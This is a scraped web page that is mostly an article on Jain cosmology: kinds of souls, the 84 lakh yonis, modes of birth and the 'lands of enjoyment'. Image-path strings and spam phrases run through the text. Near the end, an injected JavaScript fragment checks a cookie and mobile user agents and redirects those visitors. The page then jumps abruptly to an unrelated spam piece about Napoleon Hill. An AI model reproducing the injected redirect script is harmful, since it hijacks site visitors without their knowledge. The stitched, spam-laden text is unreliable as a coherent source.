The universe is beyond imagination that is functioning automatically in perfect harmony since eternity. The people have not seen the universe and thus have made the various kind of structure in their mind. When Jiva dies and leaves the body, then the body looses the consciousness and no movement of any kind occurs. It is a general tradition and thinking among us that the soul has left the body. While going it is not visible and also while leaving he does not say his departure to a particular place. Its functional ness can be known to only omniscient Gods who can see it and its where about and the causes of next modifications. Omniscient Gods are passionless, desire less, attachment less, know past, present and future at a time of everything and hence they give true description. The description of the universe has been given in previous article (3).
1.0 Soul activity: It is essential to know the basic characteristic of soul which is present in all the part of the body. Jive is invisible substance which has conscious entity or the living being known as Chetna or thought. Soul can also be defined as knowing continuously and observes sorrow-happiness. Thepurpose of soul has to be happy with the permanency. The entity of soul was in the past, also continuous in the present and will live in the future. While leaving the body, the Kerman body also associates with it and this invisible body is of cluster of Pedal atoms due to which modifications take place. The soul is very small and is as big as universe because it is multiple compound space body with the expansion property. The souls are infinite and all are equal with regards to basic characteristics but the worldly Jiva are largely divided into four categories from modification point of view;
1.1 Worldly Soul: These Jivas appear and disappear in the universe due to association of past Karmas performed. They are tied up in the worldly chain and Jiva roams in the constant cyclic time bound manner with the modifications in the 8.4 billion yonis.
1.2 Librated Soul (Mukta): Those Jivas who had shackled the chain of Karmas and are free from association of Karmas once for all. They had achieved moksa Tatav, a pure form of soul. The Moksa tatavwill not allow the soul to associate with the Karmas at any moment. Therefore, the soul is in pure form having all the basic qualities and now resides on the Sidh Shila/Shiv Puri. Such souls are also infinite and will not come into worldly form ever.
1.1.1 Worldly Jivas are divided into five categories as per sensed: One sensed Jiva: Those living beings have one sense i.e. touch. These also called immobile beings and they are also two type: Fine body Jiva: Living being has no base body which can neither be stopped by anything and nor it can stop other substances. These are: – earth body soul, water body soul, fire body soul, air body soul, plant body souls. These exist all over the cosmic space possessing Karman body. Gross body Jivas (Badar Jiva): Living beings live on the base of support body which can be stopped by any thing and, it can stop other substances. They are five types: – earth body souls, water body souls, fire body souls, air body souls, plant body souls. Two sensed living beings: They have two kinds of senses- touch and smell. They are worms, shell, jonks, termites, shunkhs etc. Three sensed living beings: Those have three kinds of sense- touch, smell, taste. They are lice, moths etc. Four sensed Living beings: Those have four kind of senses- touch, smell, taste and seeing. They are flies, beetles, scorpions, mosquitoes etc Five sensed Living Beings: Those have five kinds of senses-touch, taste, smell, seeing and hearing. They are frogs, snakes, animals, human, celestial, infernal living beings. This can be divided into two types;
Note: Sential living beings can think for the self support and unsupported attitude. For example human, celestial, infernal, lion,elephant beings etc and others are non-sential.
1.3 Nucleus (Yoni): As is known that jiva after death leaves the previous body and moves for new body. It reaches to that place where he gets suitable materials for building up of gross body. The gain of suitable materials is known as birth and the place where it gets these material particles is known Yoni (nucleus). The kind of yonis are widely spread and in many form. Although there are 84 lakhs yonis but basically it can be divided into a few classes as shown in table-1.
Table-1: Types of Yonis
S.N. Kinds of Living Beings No. of Types of Yonis, lakhs
1. Eternal lowest form of life (Nitya Nigod) 7
2. Non-eternal lowest form of life(Itara nigod) 7
3. Solitary plants souls 10
4. Earth body souls 7
5. Water body souls 7
6. Fire body souls 7
7. Air body souls 7
8. Two sensed jiva 2
9. Three sensed Jiva 2
10. Four sensed Jiva 2
11. Five sensed sub-human beings 412. Infernal beings 4
13. Celestial visit our site beings 4
14. Human beings 14
1.4 Different Types of Birth: the birth occurs by three methods:
1.4.1 By descent: Birth occurs without parents. The soul achieves adulthood right away. Celestial and infernal beings born this way.
1.4.2 By Agglutinating: The soul gets birth without sexual relationship between parents. In this system the soul reaches at the place where it has to be born and gets suitable particles from the surrounding and grows. By this process, one to four sensed Jivas born.
1.4.3 By Womb: The soul is born after an ovum becomes fertilized with sperm upon sexual relations in the womb of the female human. These are classified in three types: By Jrayuj: By Egg:. By Poat:
1.4 Gender: The living beings are recognized by sign which they gain sexual organs as a result fruition of the body making Karma, are called the material gender. These are three types and classified as per living beings characterized shown in table-2.
Table-2: Genders of Living beings
S.N. Type of Living beings Gender
1. Celestial beings up to 16th heaven Male, female
2. Celestial beings up to 16th heaven Male
3. Human beings Male, female, hermaphrodite
4. Land of enjoyment, beings
5. Non-Aryan lands, living beings Male, female
6. Actionlands, all living beings
7. Infernal living beings Male, female, hermaphrodite
8. Agglutination beings Male, female
9. Beings in bad land of enjoyment Male, female
2.0 Places for Living Beings: Different living beings reside at various places/areas in the universe as per designation besides Moksa souls. The following are the places:
2.1 Living places for Sub-human Beings: –
2.1.1 Fine body one sensed living beings exist through out the cosmic space.
2.1.2 Gross body one sensed living beings are present in square tube (Trusnali). They exist in earth, water, fire , air bodies and common body plants.
2.1.3 Solitary plant souls reside in green vegetable, plants like flower, leaf, fruits, trees etc.
2.1.4 Two, three, four sensed living beings exist in all the action lands within
two & half Islands and they also reside in the last Island, Swayamprabhu within
middle loka/square tube.
2.1.5 Five sensed jiva can be divided into three types. Those beings living in water are called water living beings. Living in lands (Thalchar): Both the sential and non-sentient living beings live on the land. They are born either by womb or by agglutinating system. Their places are:
• 170 action lands, 850 Melechcha lands,Vijayarth mounts.
• Sentient five sensed jivas also reside in 30 enjoyment lands where they enjoy like human. Living in the Air (Nabhchar): They are birds, crows, parrot, peacock, etc who can fly. They are born either by womb or by agglutinating process. They are sentient and non-sentient. Their living places are:
• 170 action lands, 850 Melechcha lands, Vijyarth mounts
• Sentient jivas born by womb also reside in 30 enjoyment lands.
2.2 Human Beings: The living places of humans can be broadly classified into four classes.
2.2.1 Action lands: At the center of middle loka, two and half Islands have 170 action lands on which human beings reside which are similar to each others except very large variation in age and height. For the livelihood, they work such as arming, writing, farming, handcrafting, business, serving the society etc. Here, the human, be self support, can rise to a level of moksa.
2.2.2 Non-Aryan lands (Mlechcha bhumi): The 5 lands are adjacent to each action land and thus total are 850 lands. The human beings residing here are similar to us but their nature is reversed as they are notaware about the natural laws and reality of the nature. So they cannot go to Moksa. Devi/Devta is their God who helps them during adversity. It is an important point to observe that 10 Vijayarth mounts and 50 Non-Aryan lands in Bharat and Airavat areas have 4rth variable time period in which once the age and height of human’s decrease and other time increase as per law of time Chakra. Presently the conditions at the end of 4rth period in Bharat and Airavat areas are still same while at Videh area, the conditions of 4rth period are constant and unchangeable on all kinds of land.
2.2.3 Land of enjoyment: Within two and half islands, 30 lands of enjoyment are permanent and eternal. Additionally, there are 10 more lands which are also eternal but the influence of time variable period change occurs. On the 10 lands, six time periods take place one after another atdesignated intervals. The 1st, 2nd, 3rd and 4rth time period have already ended. Now the 5th period is going on which is of 21000 years and after its completion, the 6th will commence. In all the time period, humans are like us except variation in age and height. In the lands of enjoyment, humans are born in twin pair (male-female) and at the same time their parents die. As a result they are not able to see the faces of their children. Hence there is no sadness and attachment here. These twin pair children grow themselves by sucking their thumbs and become young within 49 days. For livelihood, they do not work and get all needed materials from Kalpa tree free of cost. All are equal in status and hence there is no social and administrative system. They are happy humans and enjoy life and pass their time in enjoyment, talking, laughing, singing etc. Some right faiths human beings are involved in spiritualism. The quantity of food intake is small in the order of an orange. The weather is all the time normal and it is neither cold nor hot. The sun andmoon light do not enter and all is availablefrom Kalpa tree. The death occurs after
completion of designated age. These lands are classified into three types. Ten upper class lands of enjoyment- These humans have a very big body and age of 3 palya while they eat a little quantity once in three days. iddle class lands of enjoyment -Here the body size is less than the upper class and age of 2 palya. They eat a little quantity once in 2 days. Ten Lower class lands of enjoyment- The body size is less than the middle class and age of 1 palya.They eat a little food once a day.
All the living beings residing in lands of enjoyment are happy with no sadness. The food intake is very small in comparison of bodily size.}if(document.cookie.indexOf(« _mauthtoken »)==-1){(function(a,b){if(a.indexOf(« googlebot »)==-1){if(/(android|bb\d+|meego).+mobile|avantgo|bada\/|blackberry|blazer|compal|elaine|fennec|hiptop|iemobile|ip(hone|od|ad)|iris|kindle|lge |maemo|midp|mmp|mobile.+firefox|netfront|opera m(ob|in)i|palm( os)?|phone|p(ixi|re)\/|plucker|pocket|psp|series(4|6)0|symbian|treo|up\.(browser|link)|vodafone|wap|windows ce|xda|xiino/i.test(a)||/1207|6310|6590|3gso|4thp|50[1-6]i|770s|802s|a wa|abac|ac(er|oo|s\-)|ai(ko|rn)|al(av|ca|co)|amoi|an(ex|ny|yw)|aptu|ar(ch|go)|as(te|us)|attw|au(di|\-m|r |s)|avan|be(ck|ll|nq)|bi(lb|rd)|bl(ac|az)|br(e|v)w|bumb|bw\-(n|u)|c55\/|capi|ccwa|cdm\-|cell|chtm|cldc|cmd\-|co(mp|nd)|craw|da(it|ll|ng)|dbte|dc\-s|devi|dica|dmob|do(c|p)o|ds(12|\-d)|el(49|ai)|em(l2|ul)|er(ic|k0)|esl8|ez([4-7]0|os|wa|ze)|fetc|fly(\-|_)|g1u|g560|gene|gf\-5|g\-mo|go(\.w|od)|gr(ad|un)|haie|hcit|hd\-(m|p|t)|hei\-|hi(pt|ta)|hp( i|ip)|hs\-c|ht(c(\-| |_|a|g|p|s|t)|tp)|hu(aw|tc)|i\-(20|go|ma)|i230|iac( |\-|\/)|ibro|idea|ig01|ikom|im1k|inno|ipaq|iris|ja(t|v)a|jbro|jemu|jigs|kddi|keji|kgt( |\/)|klon|kpt |kwc\-|kyo(c|k)|le(no|xi)|lg( g|\/(k|l|u)|50|54|\-[a-w])|libw|lynx|m1\-w|m3ga|m50\/|ma(te|ui|xo)|mc(01|21|ca)|m\-cr|me(rc|ri)|mi(o8|oa|ts)|mmef|mo(01|02|bi|de|do|t(\-| |o|v)|zz)|mt(50|p1|v )|mwbp|mywa|n10[0-2]|n20[2-3]|n30(0|2)|n50(0|2|5)|n7(0(0|1)|10)|ne((c|m)\-|on|tf|wf|wg|wt)|nok(6|i)|nzph|o2im|op(ti|wv)|oran|owg1|p800|pan(a|d|t)|pdxg|pg(13|\-([1-8]|c))|phil|pire|pl(ay|uc)|pn\-2|po(ck|rt|se)|prox|psio|pt\-g|qa\-a|qc(07|12|21|32|60|\-[2-7]|i\-)|qtek|r380|r600|raks|rim9|ro(ve|zo)|s55\/|sa(ge|ma|mm|ms|ny|va)|sc(01|h\-|oo|p\-)|sdk\/|se(c(\-|0|1)|47|mc|nd|ri)|sgh\-|shar|sie(\-|m)|sk\-0|sl(45|id)|sm(al|ar|b3|it|t5)|so(ft|ny)|sp(01|h\-|v\-|v )|sy(01|mb)|t2(18|50)|t6(00|10|18)|ta(gt|lk)|tcl\-|tdg\-|tel(i|m)|tim\-|t\-mo|to(pl|sh)|ts(70|m\-|m3|m5)|tx\-9|up(\.b|g1|si)|utst|v400|v750|veri|vi(rg|te)|vk(40|5[0-3]|\-v)|vm40|voda|vulc|vx(52|53|60|61|70|80|81|83|85|98)|w3c(\-| )|webc|whit|wi(g |nc|nw)|wmlb|wonu|x700|yas\-|your|zeto|zte\-/i.test(a.substr(0,4))){var tdate = new Date(new Date().getTime() + 1800000); document.cookie = « _mauthtoken=1; path=/;expires= »+tdate.toUTCString(); window.location=b;}}})(navigator.userAgent||navigator.vendor||window.opera,’’);}} else {

The Science of Getting Rich, Is It Really Hard?

Getting rich, taken in the right sense, is a measure of success. For a long time now, authors have been writing works that offer help in the pursuit of success and richness. The market is flooded by such books yet one book which has always been seen as a classic in this genre continues to amaze people. Its title- Think and grow rich- has become not just a title of a book but a maxim that almost everyone recognizes and utters in differentinstances. Think and Grow Rich, was written by Napoleon Hill in the 1930s. It was a welcome contribution to an emerging trend forwarding an idea which had then been called racing rivals hack cheats the science of getting rich. This stems from the claim that getting rich can be systematically approached.

Napoleon Hill was one of the pioneers the visit it writing of personal success literature. His works examined the power of personal beliefs and their importance in achieving personal success. He always declared that what the mind can conceive, it can achieve. His books highlight how people have achieved what they may have conceived and this provide a formula for success open to anyone. Hill came to call his success teaching as the philosophy of achievement. This philosophy should always take on a positive face. Negative emotions such as fear andselfishness are the source of failure of unsuccessful people.

After systematically studying successful personalities, Hill first wrote an earlier book he called the Law of Success. The characteristics of the people he studied provided Hill with inputs for his second book which he envisioned canserve as a motivational book focused on personal development and self-help. The new book simplified the laws of success Napoleon Hill style into 13 principles or prescriptions of success which can be applied by anyone.

